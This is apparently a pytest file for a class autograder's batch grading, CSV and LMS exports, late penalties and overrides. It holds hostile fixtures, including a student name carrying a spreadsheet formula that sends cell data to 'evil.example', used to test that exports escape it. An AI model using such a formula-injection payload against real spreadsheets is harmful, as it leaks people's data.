"""Grading a whole class (issue #16, item 6): ``numpytfmr grade DIR --csv grades.csv``."""
import csv
import json
import os
from pathlib import Path

import pytest

from conftest import GRADING_TIMEOUT, HANG_TIMEOUT
from numpytfmr.grading import find_submissions
from numpytfmr.grading.classroom import distribution, distribution_table, is_grades_csv
from numpytfmr.run.cli import main

FIXTURES = Path(__file__).parent / "grading_fixtures"
CORRECT = (FIXTURES / "correct.py").read_text()


def test_find_submissions_names_students_by_file_or_folder(tmp_path):
    (tmp_path / "alice.py").write_text("x = 1")
    (tmp_path / "bob.ipynb").write_text("{}")
    (tmp_path / "carol").mkdir()
    (tmp_path / "carol" / "homework.py").write_text("x = 1")
    (tmp_path / "dan.py").write_text("x = 1")
    (tmp_path / "dan.ipynb").write_text("{}")               # two of dan's: told apart
    (tmp_path / "notes.txt").write_text("not a submission")
    (tmp_path / ".hidden.py").write_text("x = 1")
    (tmp_path / "__pycache__").mkdir()
    (tmp_path / "grades.csv").write_text("")
    (tmp_path / "grades_results").mkdir()
    found = find_submissions(tmp_path, skip=[tmp_path / "grades_results"])
    assert [s for s, _ in found] == ["alice", "bob", "carol", "dan.ipynb", "dan.py"]
    assert dict(found)["carol"] == str(tmp_path / "carol")
    # a glob pattern, and the same name in two folders
    (tmp_path / "x").mkdir()
    (tmp_path / "y").mkdir()
    (tmp_path / "x" / "hw.py").write_text("1")
    (tmp_path / "y" / "hw.py").write_text("1")
    assert [s for s, _ in find_submissions(str(tmp_path / "*" / "hw.py"))] == ["x__hw.py", "y__hw.py"]
    assert find_submissions(str(tmp_path / "alice.py")) == [("alice", str(tmp_path / "alice.py"))]


def test_distribution_of_totals():
    d = distribution([0, 50, 50, 75, 100], 100)
    assert (d["count"], d["mean"], d["median"], d["q1"], d["q3"], d["min"], d["max"]) == \
        (5, 55.0, 50.0, 50.0, 75.0, 0.0, 100.0)
    assert [c for _, _, c in d["histogram"]] == [1, 0, 0, 0, 0, 2, 0, 1, 0, 1]
    assert d["histogram"][-1][:2] == [90.0, 100.0]
    table = distribution_table(d, 100)
    assert "median 50" in table and "quartiles 50 / 75" in table and "[    90,    100]" in table


def _class(tmp_path):
    subs = tmp_path / "class"
    subs.mkdir()
    (subs / "alice.py").write_text(CORRECT)
    (subs / "bob.py").write_text(CORRECT + "\n\n" + (FIXTURES / "bugs" / "softmax_no_max.py").read_text())
    (subs / "carol.py").write_text((FIXTURES / "hostile" / "loop_at_import.py").read_text())
    (subs / "dave.py").write_text(CORRECT + "\n\n" + (FIXTURES / "hostile" / "fail_in_backward.py").read_text())
    (subs / "erin").mkdir()                                  # a folder per student works too
    (subs / "erin" / "homework.py").write_text(CORRECT + "\n\ndef relu_forward(x):\n    return x, {}\n")
    # frank reads alice's work: refused, his own copy of relu still counts
    (subs / "frank.py").write_text(CORRECT + f'''

_ok = relu_forward


def relu_forward(x):
    open({str(subs / "alice.py")!r}).read()
    return _ok(x)
''')
    config = tmp_path / "autograder" / "grading.json"
    config.parent.mkdir()
    # carol loops at import and dave's softmax_backward hangs: each waits out HANG_TIMEOUT once
    config.write_text(json.dumps({"assignment": "homework", "seed": 0, "hidden_seed": None,
                                  "timeout": HANG_TIMEOUT, "float32_case": False,
                                  "functions": [{"name": "softmax", "weight": 6},
                                                {"name": "relu", "weight": 4, "cases": [0, 1]}]}))
    return subs, config


def test_a_class_is_graded_in_parallel_into_a_csv_and_results_and_resumes(tmp_path, capsys):
    subs, config = _class(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    grades, summary = out / "grades.csv", out / "summary.json"
    argv = ["grade", str(subs), "--config", str(config), "--csv", str(grades), "--jobs", "2",
            "--summary", str(summary)]
    assert main(argv) == 0
    printed = capsys.readouterr().out
    assert "6 submissions in" in printed and "median" in printed and "quartiles" in printed

    with open(grades, newline="") as f:
        rows = {r["student"]: r for r in csv.DictReader(f)}
    header = list(next(csv.reader(open(grades))))
    assert header == ["student", "score", "max_score", "softmax_forward", "softmax_backward",
                      "relu_forward", "relu_backward", "status", "isolation", "seconds", "submission",
                      "message"]
    assert list(rows) == ["alice", "bob", "carol", "dave", "erin", "frank"]
    assert {r["max_score"] for r in rows.values()} == {"10.00"}
    assert rows["alice"]["score"] == "10.00" and rows["alice"]["status"] == "graded"
    assert 0 < float(rows["bob"]["softmax_forward"]) < 2.4 and rows["bob"]["relu_backward"] == "2.40"
    assert rows["carol"]["score"] == "0.00" and rows["carol"]["status"] == "not loaded"
    assert "did not finish loading" in rows["carol"]["message"]
    # dave's softmax_backward hangs: his softmax_forward keeps its 40 %
    assert rows["dave"]["softmax_forward"] == "2.40" and rows["dave"]["softmax_backward"] == "0.00"
    assert rows["erin"]["relu_forward"] == "0.00" and rows["erin"]["softmax_forward"] == "2.40"
    assert float(rows["frank"]["relu_forward"]) == 0 and rows["frank"]["softmax_backward"] == "3.60"
    for student, row in rows.items():
        total = sum(float(row[c]) for c in header[3:7])
        assert abs(total - float(row["score"])) < 1e-9

    results = out / "grades_results"
    alice = json.loads((results / "alice" / "results.json").read_text())
    assert alice["score"] == 10 and alice["max_score"] == 10 and alice["extra_data"]["student"] == "alice"
    assert "score 10 / 10" in (results / "alice" / "report.txt").read_text()
    frank = (results / "frank" / "report.txt").read_text()
    assert "alice.py is not allowed in a graded submission: it belongs to the submissions of the" \
           " class" in frank
    s = json.loads(summary.read_text())
    assert s["submissions"] == 6 and s["graded_now"] == 6 and s["seconds"] > 0
    assert s["statuses"] == {"graded": 5, "not loaded": 1}
    assert s["distribution"]["count"] == 6 and s["distribution"]["max"] == 10

    # a second run grades nothing that is unchanged; a changed file is graded again
    (subs / "erin" / "homework.py").write_text(CORRECT)
    assert main(argv) == 0
    capsys.readouterr()
    s = json.loads(summary.read_text())
    assert s["graded_now"] == 1 and s["unchanged"] == 5 and s["submissions"] == 6
    with open(grades, newline="") as f:
        rows2 = {r["student"]: r for r in csv.DictReader(f)}
    assert rows2["erin"]["score"] == "10.00" and rows2["dave"] == rows["dave"]
    assert is_grades_csv(grades)

    # as after an interruption: bob's results never written, the CSV lost
    import shutil
    shutil.rmtree(results / "bob")
    grades.unlink()
    assert main(argv) == 0
    capsys.readouterr()
    s = json.loads(summary.read_text())
    assert s["graded_now"] == 1 and s["unchanged"] == 5
    with open(grades, newline="") as f:
        rows3 = {r["student"]: r for r in csv.DictReader(f)}
    assert list(rows3) == list(rows2)
    for student, row in rows3.items():
        assert {k: v for k, v in row.items() if k != "seconds"} == \
            {k: v for k, v in rows2[student].items() if k != "seconds"}


def test_class_usage_errors_and_an_instructors_file_is_not_overwritten(tmp_path, capsys):
    subs, config = _class(tmp_path)
    mine = tmp_path / "roster.csv"
    mine.write_text("name,email\nalice,a@example.org\n")
    argv = ["grade", str(subs), "--config", str(config), "--csv", str(mine)]
    assert main(argv) == 2
    assert "roster.csv exists and was not written by numpytfmr grade; give --force" in \
        capsys.readouterr().err
    assert mine.read_text().startswith("name,email")
    for extra, message in ((["--json", str(tmp_path / "r.json")], "--json writes one submission"),):
        assert main(argv + extra) == 2 and message in capsys.readouterr().err
    assert main(["grade", str(subs), "--csv", str(tmp_path / "g.csv")]) == 2
    assert "give --config grading.json or --only NAMES" in capsys.readouterr().err
    assert main(["grade", str(tmp_path / "none" / "*.py"), "--only", "relu", "--csv",
                 str(tmp_path / "g.csv")]) == 2
    assert "nothing matches the pattern" in capsys.readouterr().err
    empty = tmp_path / "empty"
    empty.mkdir()
    assert main(["grade", str(empty), "--only", "relu", "--csv", str(tmp_path / "g.csv")]) == 2
    assert "no submission in" in capsys.readouterr().err
    # --force replaces it (one student, to stay quick)
    one = tmp_path / "one"
    one.mkdir()
    (one / "alice.py").write_text(CORRECT)
    assert main(["grade", str(one), "--only", "relu", "--csv", str(mine), "--force", "--jobs", "1"]) == 0
    assert is_grades_csv(mine) and "alice" in mine.read_text()
    capsys.readouterr()


@pytest.mark.parametrize("jobs", [1])
def test_grade_class_function_without_the_cli(tmp_path, jobs):
    from numpytfmr.grading import grade_class, make_plan

    (tmp_path / "a.py").write_text(CORRECT)
    plan = make_plan(only=["relu"], config={"float32_case": False})
    lines = []
    result = grade_class(find_submissions(tmp_path), tmp_path / "out" / "g.csv", plan=plan, jobs=jobs,
                         log=lines.append)
    assert result.rows[0]["score"] == 10 and result.graded == 1 and len(lines) == 1
    assert os.path.isfile(tmp_path / "out" / "g_results" / "a" / "results.json")


# --- a course's logistics in one command (issue #25, item 6) ------------------------------------

METADATA = "".join(
    f"submission_{k}:\n  :submitters:\n  - :name: {name}\n    :sid: '{1000 + k}'\n"
    f"    :email: {email}\n  :created_at: {when}.000000000 +00:00\n"
    for k, name, email, when in [(1, "Ada Lovelace", "ada@example.edu", "2026-11-20 10:00:00"),
                                 (2, "Alan Turing", "alan@example.edu", "2026-11-22 13:00:00"),
                                 (3, "Grace Hopper", "grace@example.edu", "2026-11-20 11:00:00")])


def test_one_command_gives_the_csv_exports_and_similarity_with_identity_late_and_overrides(
        tmp_path, capsys):
    subs = tmp_path / "export"
    for k, (text, where) in enumerate([(CORRECT, "homework.py"),
                                       (CORRECT + "\n\n" + (FIXTURES / "bugs" / "softmax_no_max.py")
                                        .read_text(), "hw1/homework.py"),
                                       ((FIXTURES / "independent" / "homework.py").read_text(),
                                        "homework.py")], start=1):
        path = subs / f"submission_{k}" / where
        path.parent.mkdir(parents=True)
        path.write_text(text)
    (subs / "submission_metadata.yml").write_text(METADATA)
    config = tmp_path / "autograder" / "grading.json"
    config.parent.mkdir()
    config.write_text(json.dumps({"assignment": "hw1", "seed": 0, "hidden_seed": None,
                                  "timeout": GRADING_TIMEOUT,
                                  "float32_case": False,
                                  "late": {"due": "2026-11-21T00:00:00Z", "penalty_percent": 10},
                                  "functions": [{"name": "softmax", "weight": 6},
                                                {"name": "relu", "weight": 4}]}))
    overrides = tmp_path / "overrides.csv"
    overrides.write_text("student,function,score,reason\n1003,relu_forward,1.6,fixed by hand in "
                         "office hours\nada@example.edu,total,9,academic integrity: halved\n")
    out = tmp_path / "out"
    out.mkdir()
    grades = out / "grades.csv"
    argv = ["grade", str(subs), "--config", str(config), "--csv", str(grades), "--jobs", "2",
            "--overrides", str(overrides), "--export", "canvas", str(out / "canvas.csv"),
            "--export", "moodle", str(out / "moodle.csv"), "--similarity", str(out / "similar.txt")]
    assert main(argv) == 0
    printed = capsys.readouterr().out
    assert "canvas export:" in printed and "similarity:" in printed
    with open(grades, newline="") as f:
        rows = {r["student"]: r for r in csv.DictReader(f)}
    ada, alan, grace = rows["submission_1"], rows["submission_2"], rows["submission_3"]
    assert (ada["name"], ada["sid"], ada["email"]) == ("Ada Lovelace", "1001", "ada@example.edu")
    assert ada["graded_score"] == "10.00" and ada["score"] == "9.00" and ada["late"] == "on time"
    assert "total=9 (academic integrity: halved)" == ada["overrides"]
    assert alan["late_penalty_percent"] == "20.0" and "1.54 days late" in alan["late"]
    assert float(alan["score"]) == pytest.approx(round(float(alan["graded_score"]) * 0.8, 2))
    assert alan["submitted_from"] == "created_at in submission_metadata.yml"
    assert grace["relu_forward"] == "1.60" and grace["overrides"].startswith("relu_forward=1.6")
    report = (out / "grades_results" / "submission_2" / "report.txt").read_text()
    assert "graded hw1/homework.py, the only .py or .ipynb file" in report
    assert "due 2026-11-21T00:00+00:00: 1.54 days late" in report
    assert "override: total 10 -> 9 (academic integrity: halved)" in \
        (out / "grades_results" / "submission_1" / "report.txt").read_text()
    canvas = list(csv.reader(open(out / "canvas.csv")))
    assert canvas[0][-1] == "hw1" and canvas[1][-1] == "10.00"
    assert ["Lovelace, Ada", "", "1001", "ada@example.edu", "", "9.00"] in canvas
    moodle = list(csv.reader(open(out / "moodle.csv")))
    assert moodle[0] == ["First name", "Last name", "ID number", "Email address", "hw1", "Feedback"]
    similar = (out / "similar.txt").read_text()
    assert "submission_1  ~  submission_2" in similar            # correct.py twice: flagged
    assert "submission_3" not in similar.split("close to")[0]      # independent work: not

    # a re-run keeps the overrides; a hand edit of the CSV is refused, not silently reverted
    assert main(argv) == 0
    capsys.readouterr()
    rows2 = {r["student"]: r for r in csv.DictReader(open(grades, newline=""))}
    assert rows2["submission_1"]["score"] == "9.00" and rows2["submission_3"]["relu_forward"] == "1.60"
    text = grades.read_text().replace(f"submission_2,{alan['score']},", "submission_2,12.50,")
    grades.write_text(text)
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert "edited by hand" in err and "grades-edits.csv" in err and len(err.strip().splitlines()) == 1
    assert grades.read_text() == text                                      # nothing reverted
    edits = (out / "grades-edits.csv").read_text()
    assert "submission_2,total,12.50,edited in the grades CSV" in edits
    # the edit as an override: applied from then on
    overrides.write_text(overrides.read_text() + "submission_2,total,12.5,regraded by the TA\n")
    assert main(argv + ["--force"]) == 0
    capsys.readouterr()
    rows3 = {r["student"]: r for r in csv.DictReader(open(grades, newline=""))}
    assert rows3["submission_2"]["score"] == "12.50"
    # an export path holding a file grade did not write is refused without --force
    (out / "moodle.csv").write_text("the instructor's own gradebook\n")
    assert main(argv) == 2
    assert "--export moodle" in capsys.readouterr().err
    assert (out / "moodle.csv").read_text() == "the instructor's own gradebook\n"
    (out / "moodle.csv").unlink()
    # usage errors name the flag or the file
    for extra, message in ((["--export", "blackboard", str(out / "b.csv")], "--export 'blackboard'"),
                           (["--roster", str(tmp_path / "none.csv")], "--roster"),):
        assert main(argv + extra) == 2 and message in capsys.readouterr().err
    assert main(["grade", str(subs / "submission_1"), "--only", "relu", "--similarity",
                 str(out / "s.txt")]) == 2
    assert "--similarity applies to a whole class" in capsys.readouterr().err


# --- what a student hands in is data, and the staff's changes round-trip (issue #32, items 4, 9) ---

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Eve")'
COURSE_META = f"""submission_1:
  :submitters:
  - :name: Ada Lovelace
    :sid: '1001'
    :email: ada@example.edu
  :created_at: 2026-11-20 10:00:00.000000000 +00:00
submission_2:
  :submitters:
  - :name: Grace Hopper
    :sid: '1002'
    :email: grace@example.edu
  - :name: Alan Turing
    :sid: '1003'
    :email: alan@example.edu
  :created_at: 2026-11-22 13:00:00.000000000 +00:00
submission_3:
  :submitters:
  - :name: '{FORMULA}'
    :sid: '1004'
    :email: eve@example.edu
  :created_at: 2026-11-20 11:00:00.000000000 +00:00
submission_4:
  :submitters:
  - :name: Mallory M
    :sid: '1005'
    :email: mallory@example.edu
  :created_at: 2028-05-21 09:00:00.000000000 +00:00
"""


def _csv_rows(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_a_course_trusts_only_the_instructor_and_its_overrides_round_trip(tmp_path, capsys):
    subs = tmp_path / "export"
    buggy = CORRECT + "\n\n" + (FIXTURES / "bugs" / "softmax_no_max.py").read_text()
    for k in range(1, 6):
        (subs / f"submission_{k}").mkdir(parents=True)
        (subs / f"submission_{k}" / "homework.py").write_text(buggy if k == 5 else CORRECT)
    (subs / "submission_metadata.yml").write_text(COURSE_META)
    # Mallory, 18 months late, writes her own metadata: on time, and Ada's SID
    (subs / "submission_4" / "submission_metadata.json").write_text(json.dumps(
        {"created_at": "2026-11-20T00:00:00Z",
         "users": [{"name": "Ada Lovelace", "sid": "1001", "email": "ada@example.edu"}]}))
    config = tmp_path / "autograder" / "grading.json"
    config.parent.mkdir()
    config.write_text(json.dumps({"assignment": "hw1", "seed": 0, "hidden_seed": None, "timeout": 2,
                                  "float32_case": False,
                                  "late": {"due": "2026-11-21T00:00:00Z", "penalty_percent": 10},
                                  "functions": [{"name": "softmax", "weight": 6},
                                                {"name": "relu", "weight": 4}]}))
    overrides = tmp_path / "overrides.csv"            # two lines for Ada; one for submission_5
    overrides.write_text("student,function,score,reason\n1001,relu_backward,1.5,TA regrade\n"
                         "ada@example.edu,total,9,integrity\nsubmission_5,total,3,partial credit\n")
    out = tmp_path / "out"
    out.mkdir()
    grades, canvas, moodle = out / "grades.csv", out / "canvas.csv", out / "moodle.csv"
    argv = ["grade", str(subs), "--config", str(config), "--csv", str(grades), "--jobs", "2",
            "--overrides", str(overrides), "--export", "canvas", str(canvas),
            "--export", "moodle", str(moodle)]
    assert main(argv) == 0
    err = capsys.readouterr().err
    assert "ignored the metadata file(s) inside 1 submission(s) (submission_4)" in err
    assert "no submission time for 1 submission(s) (submission_5)" in err
    rows = {r["student"]: r for r in csv.DictReader(open(grades, newline=""))}
    assert rows["submission_5"]["score"] == "3.00" and rows["submission_5"]["graded_score"] != "3.00"
    assert rows["submission_5"]["overrides"] == "total=3 (partial credit)"

    # a TA edits Eve's total in the CSV: the next run refuses and writes the edit as an override
    text = grades.read_text()
    eve_line = next(line for line in text.splitlines() if line.startswith("submission_3,"))
    grades.write_text(text.replace(eve_line, eve_line.replace("submission_3,10.00,", "submission_3,7.00,")))
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert "edited by hand" in err and "grades-edits.csv" in err and "give the reason" in err
    edits = out / "grades-edits.csv"
    lines = _csv_rows(edits)
    fingerprint = lines[1][4]
    assert lines[0] == ["student", "function", "score", "reason", "fingerprint"]
    assert lines[1][:3] == ["submission_3", "total", "7.00"] and len(fingerprint) == 12
    assert lines[1][3] == "edited in the grades CSV (was 10.00): give the reason"
    # as written, it is refused until the reason is given; filled in, it applies without --force
    with_edits = argv + ["--overrides", str(edits)]
    assert main(with_edits) == 2
    assert "the reason still ends in 'give the reason'" in capsys.readouterr().err
    edits.write_text(edits.read_text().replace(": give the reason", ": re-marked question 2"))
    # submission_5 is resubmitted, now correct: its old override must not lower it silently
    (subs / "submission_5" / "homework.py").write_text(CORRECT)
    assert main(with_edits) == 0
    printed = capsys.readouterr()
    assert "stale override, not applied" in printed.err and "submission_5" in printed.err

    table = _csv_rows(grades)
    head = table[0]
    assert head == ["student", "score", "max_score", "name", "sid", "email", "graded_score",
                    "late_penalty_percent", "late", "submitted_at", "submitted_from", "overrides",
                    "softmax_forward", "softmax_backward", "relu_forward", "relu_backward",
                    "status", "isolation", "seconds", "submission", "message"]
    cells = [dict(zip(head, r)) for r in table[1:]]
    shown = [[c[k] for k in head[:16] + ["status"]] for c in cells]
    yml = "created_at in submission_metadata.yml"
    assert shown[:5] == [
        ["submission_1", "9.00", "10.00", "Ada Lovelace", "1001", "ada@example.edu", "10.00", "0.0",
         "on time", "2026-11-20T10:00:00+00:00", yml,
         "relu_backward=1.5 (TA regrade); total=9 (integrity)", "2.40", "3.60", "1.60", "1.50",
         "graded"],
        ["submission_2", "8.00", "10.00", "Grace Hopper", "1002", "grace@example.edu", "10.00", "20.0",
         "1.54 days late (2 started days at 10% each, at most 100%): -20%",
         "2026-11-22T13:00:00+00:00", yml, "", "2.40", "3.60", "1.60", "2.40", "graded"],
        ["submission_2", "8.00", "10.00", "Alan Turing", "1003", "alan@example.edu", "10.00", "20.0",
         "1.54 days late (2 started days at 10% each, at most 100%): -20%",
         "2026-11-22T13:00:00+00:00", yml, "", "2.40", "3.60", "1.60", "2.40", "graded"],
        ["submission_3", "7.00", "10.00", "'" + FORMULA, "1004", "eve@example.edu", "10.00", "0.0",
         "on time", "2026-11-20T11:00:00+00:00", yml,
         "total=7 (edited in the grades CSV (was 10.00): re-marked question 2)", "2.40", "3.60",
         "1.60", "2.40", "graded"],
        ["submission_4", "0.00", "10.00", "Mallory M", "1005", "mallory@example.edu", "10.00", "100.0",
         "547.38 days late (548 started days at 10% each, at most 100%): -100%",
         "2028-05-21T09:00:00+00:00", yml, "", "2.40", "3.60", "1.60", "2.40", "graded"],
    ]
    stale = cells[5]["overrides"]
    assert stale.startswith("STALE, not applied: total=3 (partial credit): written for submission ")
    old_fp, new_fp = stale.split("written for submission ")[1].split(", now ")
    assert len(old_fp) == len(new_fp) == 12 and old_fp != new_fp
    assert shown[5][:11] + shown[5][12:] == ["submission_5", "10.00", "10.00", "", "", "", "10.00", "", "no submission time",
                             "", "no submission time", "2.40", "3.60", "1.60", "2.40", "graded"]
    # no cell of the CSV starts a formula
    assert not [c for r in table for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "1002; 1003" not in grades.read_text()

    assert _csv_rows(canvas) == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "hw1"],
        ["Points Possible", "", "", "", "", "10.00"],
        ["'" + FORMULA, "", "1004", "eve@example.edu", "", "7.00"],
        ["Lovelace, Ada", "", "1001", "ada@example.edu", "", "9.00"],
        ["Turing, Alan", "", "1003", "alan@example.edu", "", "8.00"],
        ["Hopper, Grace", "", "1002", "grace@example.edu", "", "8.00"],
        ["M, Mallory", "", "1005", "mallory@example.edu", "", "0.00"]]
    late2 = "late: 1.54 days late (2 started days at 10% each, at most 100%): -20%"
    assert _csv_rows(moodle) == [
        ["First name", "Last name", "ID number", "Email address", "hw1", "Feedback"],
        ["'" + FORMULA, "", "1004", "eve@example.edu", "7.00",
         "override: total 10 -> 7 (edited in the grades CSV (was 10.00): re-marked question 2)"],
        ["Ada", "Lovelace", "1001", "ada@example.edu", "9.00",
         "override: relu_backward 2.4 -> 1.5 (TA regrade) override: total 9.1 -> 9 (integrity)"],
        ["Alan", "Turing", "1003", "alan@example.edu", "8.00", late2],
        ["Grace", "Hopper", "1002", "grace@example.edu", "8.00", late2],
        ["Mallory", "M", "1005", "mallory@example.edu", "0.00",
         "late: 547.38 days late (548 started days at 10% each, at most 100%): -100%"]]
    assert "left out: submission_5 (no name, SID or email" in printed.out
    assert "canvas export: " + str(canvas) + " (5 students)" in printed.out

    results = out / "grades_results"
    mallory = (results / "submission_4" / "report.txt").read_text()
    assert "submission_metadata.json in your submission was ignored" in mallory
    assert "-100%" in mallory
    assert "due 2026-11-21T00:00+00:00: no submission time: the late policy was not applied" in \
        (results / "submission_5" / "report.txt").read_text()
    # the stale override applies again once its fingerprint is set to the new submission's
    overrides.write_text(overrides.read_text().replace(
        "student,function,score,reason\n", "student,function,score,reason,fingerprint\n").replace(
        "partial credit\n", f"partial credit,{new_fp}\n").replace("integrity\n", "integrity,\n")
        .replace("TA regrade\n", "TA regrade,\n"))
    assert main(with_edits) == 0
    capsys.readouterr()
    rows = {r["student"]: r for r in csv.DictReader(open(grades, newline=""))}
    assert rows["submission_5"]["score"] == "3.00" and rows["submission_5"]["overrides"] == \
        "total=3 (partial credit)"
